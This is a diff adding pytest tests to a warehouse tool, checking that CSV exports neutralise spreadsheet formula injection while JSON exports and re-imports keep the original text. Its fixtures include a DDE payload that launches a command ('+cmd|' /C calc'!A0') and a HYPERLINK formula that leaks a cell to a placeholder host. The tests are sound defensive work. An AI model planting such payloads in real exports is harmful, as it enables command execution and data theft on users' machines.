@@ -9,10 +9,10 @@ import json
 from pathlib import Path
 
 import pytest
-from sqlalchemy import update
+from sqlalchemy import select, update
 
 from floor.db import session_scope
-from floor.models import Item
+from floor.models import Item, SalesOrder
 from floor.stock import ledger as inv
 from floor.stock.ledger import Actor
 from tests.integration.test_import import DATA, floor_cli
@@ -155,3 +155,103 @@ def test_export_unknown_warehouse(
     code, out, err = floor_cli(warehouse.engine, capsys, "export", "stock", "--warehouse", "XX")
     assert (code, out) == (1, "")
     assert err.strip() == "floor: No warehouse XX (known: TST)"
+
+
+HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Error: click for details")'
+FORMULA_ORDERS = (
+    "order,sku,quantity,notes,ship_name,ship_line1,ship_city,ship_country,ship_phone\n"
+    'SO-9001,PLAIN,2,"+cmd|\' /C calc\'!A0","' + HYPERLINK.replace('"', '""') + '",'
+    "@SUM(1),Paris,FR,+33 1 23 45 67 89\n"
+)
+
+
+def test_csv_exports_write_formulas_as_text_and_json_as_it_is(
+    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    actor = Actor(warehouse.operators["receiver"], "ST01")
+    with session_scope(warehouse.engine) as s:
+        s.execute(update(Item).where(Item.sku == "LOT").values(description=HYPERLINK))
+        s.execute(update(Item).where(Item.sku == "PLAIN").values(description="\t-1+1"))
+        lot = warehouse.key("A01-02-1", "LOT", "-5", EXPIRY)  # a lot that reads as a number
+        inv.receive(s, lot, 20, actor=actor, reference="@SUM(1)")
+        inv.adjust(s, lot, -5, reason="damaged", actor=actor, reference="\r=1+1")
+        inv.receive(s, warehouse.key("A01-01-1", "PLAIN"), 1, actor=actor)
+
+    code, out, _err = floor_cli(warehouse.engine, capsys, "export", "stock", "--warehouse", "TST")
+    assert code == 0
+    rows = {r["sku"]: r for r in csv.DictReader(io.StringIO(out))}
+    assert rows["LOT"]["description"] == "'" + HYPERLINK
+    assert rows["PLAIN"]["description"] == "'\t-1+1"
+    assert (rows["LOT"]["lot"], rows["LOT"]["quantity"]) == ("-5", "15")
+
+    code, out, _err = floor_cli(
+        warehouse.engine, capsys, "export", "movements", "--warehouse", "TST"
+    )
+    assert code == 0
+    moves = list(csv.DictReader(io.StringIO(out)))
+    assert [m["reference"] for m in moves] == ["'@SUM(1)", "'\r=1+1", ""]
+    assert [m["quantity"] for m in moves] == ["20", "-5", "1"]  # numbers stay numbers
+
+    code, out, _err = floor_cli(
+        warehouse.engine, capsys, "export", "movements", "--format", "json", "--warehouse", "TST"
+    )
+    assert [(m["reference"], m["quantity"]) for m in json.loads(out)] == [
+        ("@SUM(1)", 20),
+        ("\r=1+1", -5),
+        ("", 1),
+    ]
+    code, out, _err = floor_cli(
+        warehouse.engine, capsys, "export", "stock", "--format", "json", "--warehouse", "TST"
+    )
+    assert {r["sku"]: r["description"] for r in json.loads(out)}["LOT"] == HYPERLINK
+
+
+def test_orders_csv_with_formulas_is_neutralised_and_reimports_exactly(
+    warehouse: SmallWarehouse, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    source = tmp_path / "orders.csv"
+    source.write_text(FORMULA_ORDERS, encoding="utf-8")
+    code, out, err = floor_cli(
+        warehouse.engine, capsys, "import", "orders", str(source), "--warehouse", "TST"
+    )
+    assert code == 0, out + err
+    exported = tmp_path / "exported.csv"
+    code, _out, _err = floor_cli(
+        warehouse.engine, capsys, "export", "orders", "-o", str(exported), "--warehouse", "TST"
+    )
+    assert code == 0
+    with exported.open(encoding="utf-8", newline="") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["notes"] == "'+cmd|' /C calc'!A0"
+    assert row["ship_name"] == "'" + HYPERLINK
+    assert row["ship_line1"] == "'@SUM(1)"
+    assert row["ship_phone"] == "'+33 1 23 45 67 89"
+    assert row["quantity"] == "2"
+
+    code, out, _err = floor_cli(
+        warehouse.engine, capsys, "export", "orders", "--format", "json", "--warehouse", "TST"
+    )
+    (order,) = json.loads(out)
+    assert order["notes"] == "+cmd|' /C calc'!A0"
+    assert order["ship_to"]["name"] == HYPERLINK
+
+    # Read back into an empty warehouse, the neutralised cells give the original text.
+    with session_scope(warehouse.engine) as s:
+        s.execute(
+            update(SalesOrder)
+            .where(SalesOrder.number == "SO-9001")
+            .values(number="SO-OLD", external_ref="SO-OLD")
+        )
+    code, out, err = floor_cli(
+        warehouse.engine, capsys, "import", "orders", str(exported), "--warehouse", "TST"
+    )
+    assert code == 0, out + err
+    with session_scope(warehouse.engine) as s:
+        again = s.scalars(select(SalesOrder).where(SalesOrder.number == "SO-9001")).one()
+        assert again.notes == "+cmd|' /C calc'!A0"
+        assert again.ship_to is not None
+        assert (again.ship_to.name, again.ship_to.line1, again.ship_to.phone) == (
+            HYPERLINK,
+            "@SUM(1)",
+            "+33 1 23 45 67 89",
+        )
